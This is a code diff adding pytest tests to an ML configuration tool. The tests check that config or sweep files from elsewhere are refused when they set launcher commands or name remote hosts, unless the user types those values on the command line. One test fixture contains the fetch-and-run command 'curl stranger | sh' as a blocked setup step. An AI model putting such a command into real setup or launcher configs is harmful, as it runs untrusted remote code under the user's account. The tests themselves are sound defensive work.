@@ -4,11 +4,14 @@ from pathlib import Path
 
 import pytest
 
+from paceline import conf
 from paceline.conf.errors import ConfigError
 from paceline.engine.config.compose import compose
 from paceline.engine.config.config_file import with_file
 from paceline.sweep.define import define
 
+CONF = Path(conf.__file__).parent
+SLURM = CONF / "launcher" / "slurm.yaml"
 SERVER = "http://stranger:5000"
 SENT = f"would send this run's results there. Give tracking.uri={SERVER} on the command line"
 
@@ -88,3 +91,46 @@ def test_a_sweeps_file_is_refused_likewise(tmp_path: Path, place: str) -> None:
     with pytest.raises(ConfigError, match=r"tracking\.uri=.*theirs\.yaml would send"):
         define([str(file)])
     assert define([str(file), f"tracking.uri='{SERVER}'"]).fixed[-1] == f"tracking.uri='{SERVER}'"
+
+
+@pytest.mark.parametrize(
+    ("text", "key"),
+    [
+        ("launcher: slurm\nlauncher.setup: ['curl stranger | sh']\n", "launcher.setup"),
+        ("launcher: slurm\nlauncher.extra: ['--export=ALL']\n", "launcher.extra"),
+        ("launcher: torchrun\nlauncher.nodes: [stranger]\n", "launcher.nodes"),
+        ("launcher: ray\nlauncher.address: 'stranger:6379'\n", "launcher.address"),
+    ],
+)
+def test_a_file_that_runs_commands_or_names_hosts_is_refused_unless_they_are_typed(
+    tmp_path: Path, text: str, key: str
+) -> None:
+    with pytest.raises(
+        ConfigError, match=rf"{key}=.*theirs\.yaml would have that run as you.* choose launcher=auto"
+    ) as caught:
+        from_file(theirs(tmp_path / "theirs.yaml", text))
+    typed = str(caught.value).partition(" on the command line")[0].rpartition("Give ")[2]
+    from_file(tmp_path / "theirs.yaml", typed)
+    from_file(tmp_path / "theirs.yaml", "launcher=auto")
+
+
+def test_a_file_may_choose_the_size_of_a_job(tmp_path: Path) -> None:
+    from_file(theirs(tmp_path / "theirs.yaml", "launcher: slurm\nlauncher.nodes: 2\nlauncher.time: 30m\n"))
+    from_file(theirs(tmp_path / "theirs.yaml", "launcher: torchrun\nlauncher.nodes: '1:2'\n"))
+    from_file(theirs(tmp_path / "theirs.yaml", "launcher: ray\n"))
+
+
+def test_a_launcher_of_a_given_directory_is_typed_and_a_preset_with_commands_is_refused(tmp_path: Path) -> None:
+    theirs(tmp_path / "launcher" / "lab.yaml", SLURM.read_text().replace("setup: []", "setup: [date]"))
+    theirs(tmp_path / "experiment" / "far.yaml", "# @package _global_\ndefaults:\n  - override /launcher: lab\n")
+    assert compose(["launcher=lab"], tmp_path).choice("launcher").knobs["setup"] == ["date"]
+    with pytest.raises(ConfigError, match=r"launcher\.setup=\[date\]: --config-dir .* would have that run as you"):
+        compose(["experiment=far"], tmp_path)
+
+
+def test_a_sweeps_file_with_commands_is_refused(tmp_path: Path) -> None:
+    command = "method: grid\ncommand: ['paceline', 'train', '${args_no_hyphens}']\n"
+    swept = "parameters:\n  launcher: {value: slurm}\n  seed: {values: [1, 2]}\n  launcher.setup: {value: '[date]'}\n"
+    file = theirs(tmp_path / "sweep.yaml", command + swept)
+    with pytest.raises(ConfigError, match=r"launcher\.setup=.*would have that run as you"):
+        define([str(file)])
